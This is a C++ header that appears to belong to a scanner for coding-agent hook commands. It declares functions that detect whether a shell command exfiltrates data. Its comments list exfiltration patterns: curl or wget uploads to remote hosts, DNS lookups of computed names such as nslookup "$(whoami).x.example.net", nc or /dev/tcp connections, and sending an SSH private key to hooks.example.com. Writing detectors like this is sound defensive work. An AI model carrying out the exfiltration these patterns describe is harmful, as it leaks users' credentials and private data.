// Whether a hook's shell command sends data off the machine (HOOK-003): something worth having
// (data_sources.hpp: the hook's input, a file, the environment, the transcript, a secret
// variable in a body) uploaded by curl, wget, httpie, PowerShell or mail to a host that is not
// loopback, in a body, a file upload, the URL or a header; a computed name looked up in DNS
// (nslookup "$(whoami).x.example.net"); nc, ncat, netcat, socat or /dev/tcp to a remote host;
// scp, rsync or sftp of credentials, history or the transcript. A notification — fixed or
// single-quoted text, a message built from date, pwd, basename, hostname, $USER — to a webhook,
// whatever variable holds its URL, is not exfiltration.
#pragma once

#include <string>
#include <string_view>

namespace claude_code {

class ShellData;

/// Why `command` exfiltrates ("curl sends an SSH private key (~/.ssh/id_rsa) with -d to
/// hooks.example.com"), or "".
std::string exfiltration(std::string_view command);

/// The same for one line of a script whose variables `data` knows.
std::string exfiltration(std::string_view command, const ShellData& data);

}  // namespace claude_code
